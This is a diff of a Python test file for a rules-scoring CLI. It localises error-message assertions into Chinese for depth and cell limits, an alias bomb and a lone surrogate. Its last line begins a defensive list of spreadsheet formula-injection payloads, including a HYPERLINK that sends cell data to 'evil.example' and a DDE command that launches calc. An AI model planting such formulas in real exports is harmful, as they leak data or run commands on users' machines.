@@ -196,11 +196,11 @@ def test_limits_name_themselves_and_how_to_raise_them(tmp_path: Path,
     deep_json(tmp_path)
     alias_bomb(tmp_path)
     code, _, err = run(capsys, "score", str(tmp_path / "deep.json"))
-    assert code == 2 and "max_depth is 32" in err and "PERFRULES_MAX_DEPTH" in err
+    assert code == 2 and "上限 max_depth 为 32" in err and "PERFRULES_MAX_DEPTH" in err
     started = time.monotonic()
     code, _, err = run(capsys, "score", str(tmp_path / "bomb.yaml"))
     assert time.monotonic() - started < 2  # refused while composing, before anything is built
-    assert code == 2 and "max_cells is 200000" in err and "--max-cells" in err
+    assert code == 2 and "上限 max_cells 为 200000" in err and "--max-cells" in err
 
 
 def test_depth_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
@@ -211,7 +211,7 @@ def test_depth_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPat
     path = write_form(tmp_path / "f.json", data)
     monkeypatch.setenv("PERFRULES_MAX_DEPTH", "8")
     code, _, err = run(capsys, "score", str(path))
-    assert code == 2 and "max_depth is 8" in err
+    assert code == 2 and "上限 max_depth 为 8" in err
     monkeypatch.setenv("PERFRULES_MAX_DEPTH", "40")
     code, _, err = run(capsys, "score", str(path))
     assert "max_depth" not in err  # refused for the unknown field only
@@ -228,10 +228,10 @@ def lone_surrogate(folder: Path) -> Path:
 def test_lone_surrogate_in_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     path = lone_surrogate(tmp_path)
     code, _, err = run(capsys, "score", str(path))
-    assert code == 2 and "lone surrogate" in err and "'\\ud800标题'" in err
+    assert code == 2 and "孤立的代理码位" in err and "'\\ud800标题'" in err
     code, _, _ = run(capsys, "audit", str(path), "-o", str(tmp_path / "out") + "/")
     assert code == 2
-    assert "lone surrogate" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
+    assert "孤立的代理码位" in (tmp_path / "out" / "summary.csv").read_text("utf-8-sig")
 
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0",
